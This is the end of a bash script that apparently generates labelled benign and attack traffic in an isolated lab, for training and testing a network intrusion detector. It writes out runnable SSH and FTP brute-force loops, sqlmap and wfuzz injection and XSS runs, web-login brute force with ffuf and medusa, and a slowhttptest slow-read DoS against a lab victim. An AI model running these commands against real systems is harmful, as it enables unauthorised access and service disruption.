    if (( s % 3 == 0 )); then
      timeout 15 sshpass -p "wrong-$s" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o NumberOfPasswordPrompts=1 "$LAB_USER@$VIC_IP" true >/dev/null 2>&1
    fi
    sleep 1
  done
}
# A monitoring client polling a status page and an API on a schedule: the same request again and again, benign.
scenario_benign_polling() {
  for round in $(seq 1 80); do
    timeout 5 curl -s -o /dev/null "http://$VIC_IP/index.html"
    if (( round % 2 == 0 )); then timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/status?check=$round"; fi
    if (( round % 10 == 0 )); then timeout 5 curl -sk -o /dev/null "https://$VIC_IP/index.html"; fi
    if (( round % 20 == 0 )); then timeout 5 dig +short +tries=1 "monitor.lab.test" @"$VIC_IP" >/dev/null; fi
    sleep 0.25
  done
}
# FTP sessions: logins, listings, downloads, a failed login.
scenario_benign_ftp_sessions() {
  for i in $(seq 1 10); do
    timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/"
    timeout 20 curl -s -o /dev/null "ftp://$LAB_USER:$LAB_PASS@$VIC_IP/report.dat"
    if (( i % 5 == 0 )); then timeout 10 curl -s -o /dev/null "ftp://$LAB_USER:typo$i@$VIC_IP/"; fi
    sleep "0.$(( i % 4 + 3 ))"
  done
}

# ---- issue 4, round 2: more brute-force flows (tools and loops that open a connection per try or per few tries,
# where hydra reuses one connection for several), web attacks by other tools and over keep-alive connections
# (sqlmap, wfuzz and ffuf payload lists, medusa's form module, curl sending several payloads per connection), one
# more slow read, and benign scripted clients at machine speed (the kind of traffic the held-out
# benign_web_keepalive is: its single form POSTs and /app/ GETs between wget keep-alive batches had no sibling) ----
scenario_brute_force_ssh_medusa() { timeout 45 medusa -h "$VIC_IP" -u admin -P "$LAB_DIR/wordlist.txt" -M ssh -t 4; }
scenario_brute_force_ssh_ncrack() { timeout 45 ncrack -T4 --user root -P "$LAB_DIR/wordlist.txt" "ssh://$VIC_IP:22"; }
# One password per connection (NumberOfPasswordPrompts=1), four at a time: what a bash loop of sshpass makes. Each
# failed login exits 255, which stops xargs, hence the `|| true` inside.
scenario_brute_force_ssh_sshpass() {
  head -n 60 "$LAB_DIR/wordlist.txt" | timeout 60 xargs -P 4 -I{} bash -c 'timeout 10 sshpass -p "$1" ssh \
    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 \
    -o PreferredAuthentications=password -o ConnectTimeout=5 "$LAB_USER@$VIC_IP" true || true' _ {}
}
scenario_brute_force_ftp_medusa() { timeout 45 medusa -h "$VIC_IP" -u ftpuser -P "$LAB_DIR/wordlist.txt" -M ftp -t 4; }
scenario_brute_force_ftp_ncrack() { timeout 45 ncrack -T4 --user admin -P "$LAB_DIR/wordlist.txt" "ftp://$VIC_IP:21"; }
# One login per connection with curl, one after another.
scenario_brute_force_ftp_curl() {
  local n=0
  while read -r word && (( n < 80 )); do
    n=$((n + 1))
    timeout 5 curl -s -o /dev/null "ftp://webadmin:$word@$VIC_IP/"
  done <"$LAB_DIR/wordlist.txt"
}
# sqlmap's own test sequence against two parameters (none is injectable: the lab site is static), bounded.
scenario_web_attack_sqlmap() {
  timeout 60 sqlmap -u "http://$VIC_IP/app/item?id=1&cat=2" --batch --level 2 --risk 1 --threads 2 --timeout 5 \
    --retries 0 --flush-session --disable-coloring --output-dir "$WORK/sqlmap"
}
# wfuzz over its SQL injection and traversal payload lists (libcurl: connections are reused).
scenario_web_attack_wfuzz() {
  timeout 45 wfuzz -t 4 -z file,/usr/share/wfuzz/wordlist/Injections/SQL.txt "http://$VIC_IP/app/item?id=FUZZ"
  timeout 45 wfuzz -t 2 -z file,/usr/share/wfuzz/wordlist/Injections/Traversal.txt "http://$VIC_IP/app/view?file=FUZZ"
}
# ffuf: a login brute force over keep-alive connections (Go's HTTP client), two user names.
scenario_web_attack_ffuf_login() {
  for user in admin operator; do
    timeout 40 ffuf -s -t 4 -w "$LAB_DIR/wordlist.txt" -X POST -d "username=$user&password=FUZZ&submit=Login" \
      -H "Content-Type: application/x-www-form-urlencoded" -u "http://$VIC_IP/app/login" -mc 302
  done
}
# medusa's web-form module: a form POST per try (every answer carries the deny signal, so all 96 are tried).
scenario_web_attack_medusa_form() {
  timeout 45 medusa -h "$VIC_IP" -u admin -P "$LAB_DIR/wordlist.txt" -M web-form -t 2 -m FORM:app/login \
    -m DENY-SIGNAL:html -m "FORM-DATA:post?username=&password="
}
# XSS and traversal payloads, six per keep-alive connection (curl --next reuses it), as a hand-made script would.
scenario_web_attack_xss_keepalive() {
  local args=() k=0
  while IFS= read -r payload; do
    args+=(--next -s -o /dev/null -G --data-urlencode "q=$payload" "http://$VIC_IP/app/search")
    k=$((k + 1))
    if (( k % 6 == 0 )); then timeout 10 curl "${args[@]:1}"; args=(); fi
  done < <(cat /usr/share/wfuzz/wordlist/Injections/XSS.txt /usr/share/wfuzz/wordlist/Injections/Traversal.txt)
  if (( ${#args[@]} )); then timeout 10 curl "${args[@]:1}"; fi
}
scenario_slow_dos_slowread_page() {
  timeout 45 slowhttptest -X -c 200 -r 80 -w 128 -y 256 -n 3 -z 32 -k 2 -l 25 -u "http://$VIC_IP/page20.html" -p 3
}
# A scripted client at machine speed: wget keep-alive batches of pages and /app/ pages, single curl GETs with query
# strings and single form POSTs between them, no pauses.
scenario_benign_web_scripted() {
  for round in $(seq 1 100); do
    a=$(( (round * 3) % 20 + 1 )); b=$(( (round * 11) % 20 + 1 ))
    timeout 15 wget -q -O /dev/null "http://$VIC_IP/app/" "http://$VIC_IP/page$a.html" "http://$VIC_IP/app/news" "http://$VIC_IP/page$b.html"
    case $(( round % 3 )) in
      0) timeout 5 curl -s -o /dev/null -d "q=report+$round&format=csv&range=week" "http://$VIC_IP/app/export" ;;
      1) timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/item?id=$round&view=full" ;;
      *) timeout 5 curl -s -o /dev/null -G --data-urlencode "search=invoice $round for customer" "http://$VIC_IP/app/search" ;;
    esac
    if (( round % 7 == 0 )); then timeout 5 curl -sk -o /dev/null "https://$VIC_IP/page$b.html"; fi
  done
}
# An API client: keep-alive sessions of GETs and JSON POSTs on one connection (curl --next), a heartbeat POST on its
# own connection every other round, short pauses.
scenario_benign_api_client() {
  for round in $(seq 1 80); do
    timeout 10 curl -s -o /dev/null "http://$VIC_IP/app/api/status" \
      --next -s -o /dev/null -H 'Content-Type: application/json' -d "{\"event\":\"sync\",\"n\":$round}" "http://$VIC_IP/app/api/events" \
      --next -s -o /dev/null "http://$VIC_IP/app/api/items?page=$(( round % 5 ))"
    if (( round % 2 == 0 )); then
      timeout 5 curl -s -o /dev/null -H 'Content-Type: application/json' -d "{\"heartbeat\":$round,\"ok\":true}" "http://$VIC_IP/app/api/heartbeat"
    fi
    if (( round % 9 == 0 )); then timeout 5 curl -s -o /dev/null "http://$VIC_IP/page$(( round % 20 + 1 )).html"; fi
    sleep "0.$(( round % 3 ))"
  done
}

# Eight clients at once, a connection per request (pages, /app/ pages, 404s, HEAD, ranges, HTTPS, wget with two
# pages on one connection): the busiest benign traffic of the lab. benign_web_parallel (four at a time) held out had
# nothing as busy in training once the pages were real (measured: 269 of its 600 flows flagged held out).
scenario_benign_web_parallel_wide() {
  seq 1 480 | timeout 120 xargs -P 8 -I{} bash -c 'n={}; p=$(( n % 20 + 1 )); q=$(( (n * 7) % 20 + 1 ));
    case $(( n % 8 )) in
      0) curl -sk -o /dev/null "https://$VIC_IP/page$p.html" ;;
      1) curl -s -o /dev/null "http://$VIC_IP/img/missing-$p.gif" ;;
      2) curl -s -I -o /dev/null "http://$VIC_IP/page$q.html" ;;
      3) curl -s -o /dev/null -r $(( n * 101 % 50000 ))-$(( n * 101 % 50000 + 30000 )) "http://$VIC_IP/big.bin" ;;
      4) curl -s -o /dev/null "http://$VIC_IP/app/item?id=$n&ref=list" ;;
      5) wget -q -O /dev/null "http://$VIC_IP/page$p.html" "http://$VIC_IP/page$q.html" ;;
      *) curl -s -o /dev/null "http://$VIC_IP/page$p.html?session=$(( n % 9 ))" ;;
    esac'
}

# Browsing while an interactive SSH session and a rate-limited download (100 KB/s, ~20 s) stay open: a client whose
# pair has long connections open while it fetches short pages. Held out, benign_mixed_slow's page fetches during its
# SSH sessions were called slow_dos (8 flows: the pair's open-connection estimate near 0.9), and no benign scenario
# had long connections next to short page fetches.
scenario_benign_ssh_and_browse() {
  timeout 40 sshpass -p "$LAB_PASS" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    "$LAB_USER@$VIC_IP" "for k in 1 2 3 4 5 6 7; do uptime; sleep 3; done" >/dev/null &
  timeout 40 curl -s -o /dev/null --limit-rate 100k "http://$VIC_IP/big.bin" &
  for round in $(seq 1 60); do
    timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$(( (round * 13) % 20 + 1 )).html"
    if (( round % 4 == 0 )); then timeout 10 curl -sk -o /dev/null "https://$VIC_IP/page$(( round % 20 + 1 )).html"; fi
    if (( round % 6 == 0 )); then timeout 5 dig +short +tries=1 "docs$round.lab.test" @"$VIC_IP" >/dev/null; fi
    sleep "0.$(( round % 4 + 1 ))"
  done
  wait
}

setup_network
start_servers
command -v sshpass >/dev/null || { echo "lab: missing tool 'sshpass'" >&2; exit 1; }

export VIC_IP LAB_USER LAB_PASS LAB_DIR WORK
# atk FUNCTION: runs one scenario function inside the attacker namespace.
atk() { in_atk bash -c "$(declare -f "$1"); $1"; }

run_scenario benign_web BENIGN benign atk scenario_benign_web
run_scenario benign_dns BENIGN benign atk scenario_benign_dns
run_scenario benign_ssh BENIGN benign atk scenario_benign_ssh
run_scenario benign_ftp BENIGN benign atk scenario_benign_ftp
run_scenario benign_bulk BENIGN benign atk scenario_benign_bulk
run_scenario benign_mixed BENIGN benign atk scenario_benign_mixed
run_scenario portscan_syn Portscan portscan atk scenario_portscan_syn
run_scenario portscan_connect Portscan portscan atk scenario_portscan_connect
run_scenario portscan_fin_xmas_null Portscan portscan atk scenario_portscan_fin_xmas_null
run_scenario portscan_udp Portscan portscan atk scenario_portscan_udp
run_scenario portscan_version Portscan portscan atk scenario_portscan_version
run_scenario dos_syn_flood 'DoS SYN flood' dos atk scenario_dos_syn_flood
run_scenario dos_udp_flood 'DoS UDP flood' dos atk scenario_dos_udp_flood
run_scenario dos_icmp_flood 'DoS ICMP flood' dos atk scenario_dos_icmp_flood
run_scenario dos_http_flood 'DoS HTTP flood' dos atk scenario_dos_http_flood
run_scenario slow_dos_slowloris 'DoS Slowloris' slow_dos atk scenario_slow_dos_slowloris
run_scenario slow_dos_slowbody 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowbody
run_scenario brute_force_ssh SSH-Patator brute_force atk scenario_brute_force_ssh
run_scenario brute_force_ftp FTP-Patator brute_force atk scenario_brute_force_ftp
run_scenario web_attack 'Web Attack' web_attack atk scenario_web_attack
run_scenario benign_web_parallel BENIGN benign atk scenario_benign_web_parallel
run_scenario benign_web_keepalive BENIGN benign atk scenario_benign_web_keepalive
run_scenario benign_dns_burst BENIGN benign atk scenario_benign_dns_burst
run_scenario benign_mixed_slow BENIGN benign atk scenario_benign_mixed_slow
run_scenario benign_ssh_long BENIGN benign atk scenario_benign_ssh_long
run_scenario benign_ftp_listing BENIGN benign atk scenario_benign_ftp_listing
run_scenario benign_bulk_udp BENIGN benign atk scenario_benign_bulk_udp
run_scenario portscan_syn_top Portscan portscan atk scenario_portscan_syn_top
run_scenario portscan_syn_fast Portscan portscan atk scenario_portscan_syn_fast
run_scenario portscan_connect_top Portscan portscan atk scenario_portscan_connect_top
run_scenario portscan_ack_window Portscan portscan atk scenario_portscan_ack_window
run_scenario portscan_udp_top Portscan portscan atk scenario_portscan_udp_top
run_scenario dos_syn_flood_443 'DoS SYN flood' dos atk scenario_dos_syn_flood_443
run_scenario dos_syn_flood_22 'DoS SYN flood' dos atk scenario_dos_syn_flood_22
run_scenario dos_ack_flood 'DoS ACK flood' dos atk scenario_dos_ack_flood
run_scenario dos_udp_flood_big 'DoS UDP flood' dos atk scenario_dos_udp_flood_big
run_scenario dos_udp_flood_snmp 'DoS UDP flood' dos atk scenario_dos_udp_flood_snmp
run_scenario dos_icmp_flood_big 'DoS ICMP flood' dos atk scenario_dos_icmp_flood_big
run_scenario dos_http_flood_c10 'DoS HTTP flood' dos atk scenario_dos_http_flood_c10
run_scenario dos_http_flood_c200 'DoS HTTP flood' dos atk scenario_dos_http_flood_c200
run_scenario dos_http_flood_curl 'DoS HTTP flood' dos atk scenario_dos_http_flood_curl
run_scenario slow_dos_slowloris_fast 'DoS Slowloris' slow_dos atk scenario_slow_dos_slowloris_fast
run_scenario slow_dos_slowread 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowread
run_scenario slow_dos_slowloris_https 'DoS Slowloris' slow_dos atk scenario_slow_dos_slowloris_https
run_scenario slow_dos_slowbody_fast 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowbody_fast
run_scenario brute_force_ssh_t8 SSH-Patator brute_force atk scenario_brute_force_ssh_t8
run_scenario brute_force_ssh_t2 SSH-Patator brute_force atk scenario_brute_force_ssh_t2
run_scenario brute_force_ftp_t8 FTP-Patator brute_force atk scenario_brute_force_ftp_t8
run_scenario brute_force_ftp_t1 FTP-Patator brute_force atk scenario_brute_force_ftp_t1
run_scenario web_attack_sqli 'Web Attack - SQL Injection' web_attack atk scenario_web_attack_sqli
run_scenario web_attack_xss_lfi 'Web Attack - XSS' web_attack atk scenario_web_attack_xss_lfi
run_scenario web_attack_login_brute 'Web Attack - Brute Force' web_attack atk scenario_web_attack_login_brute
run_scenario benign_web_forms BENIGN benign atk scenario_benign_web_forms
run_scenario benign_web_sessions BENIGN benign atk scenario_benign_web_sessions
run_scenario dos_http_flood_post 'DoS HTTP flood' dos atk scenario_dos_http_flood_post
run_scenario slow_dos_slowread_https 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowread_https
run_scenario slow_dos_slowbody_https 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowbody_https
run_scenario brute_force_ssh_t4_root SSH-Patator brute_force atk scenario_brute_force_ssh_t4_root
run_scenario brute_force_ftp_t2 FTP-Patator brute_force atk scenario_brute_force_ftp_t2
run_scenario web_attack_login_hydra 'Web Attack - Brute Force' web_attack atk scenario_web_attack_login_hydra
run_scenario benign_browse_keepalive BENIGN benign atk scenario_benign_browse_keepalive
run_scenario benign_browse_app BENIGN benign atk scenario_benign_browse_app
run_scenario benign_browse_parallel_users BENIGN benign atk scenario_benign_browse_parallel_users
run_scenario benign_downloads BENIGN benign atk scenario_benign_downloads
run_scenario benign_dns_client BENIGN benign atk scenario_benign_dns_client
run_scenario benign_ssh_sessions BENIGN benign atk scenario_benign_ssh_sessions
run_scenario benign_polling BENIGN benign atk scenario_benign_polling
run_scenario benign_ftp_sessions BENIGN benign atk scenario_benign_ftp_sessions
run_scenario brute_force_ssh_medusa SSH-Patator brute_force atk scenario_brute_force_ssh_medusa
run_scenario brute_force_ssh_ncrack SSH-Patator brute_force atk scenario_brute_force_ssh_ncrack
run_scenario brute_force_ssh_sshpass SSH-Patator brute_force atk scenario_brute_force_ssh_sshpass
run_scenario brute_force_ftp_medusa FTP-Patator brute_force atk scenario_brute_force_ftp_medusa
run_scenario brute_force_ftp_ncrack FTP-Patator brute_force atk scenario_brute_force_ftp_ncrack
run_scenario brute_force_ftp_curl FTP-Patator brute_force atk scenario_brute_force_ftp_curl
run_scenario web_attack_sqlmap 'Web Attack - SQL Injection' web_attack atk scenario_web_attack_sqlmap
run_scenario web_attack_wfuzz 'Web Attack - SQL Injection' web_attack atk scenario_web_attack_wfuzz
run_scenario web_attack_ffuf_login 'Web Attack - Brute Force' web_attack atk scenario_web_attack_ffuf_login
run_scenario web_attack_medusa_form 'Web Attack - Brute Force' web_attack atk scenario_web_attack_medusa_form
run_scenario web_attack_xss_keepalive 'Web Attack - XSS' web_attack atk scenario_web_attack_xss_keepalive
run_scenario slow_dos_slowread_page 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowread_page
run_scenario benign_web_scripted BENIGN benign atk scenario_benign_web_scripted
run_scenario benign_api_client BENIGN benign atk scenario_benign_api_client
run_scenario benign_web_parallel_wide BENIGN benign atk scenario_benign_web_parallel_wide
run_scenario benign_ssh_and_browse BENIGN benign atk scenario_benign_ssh_and_browse
log "done: captures and ground truth in $OUT_DIR"
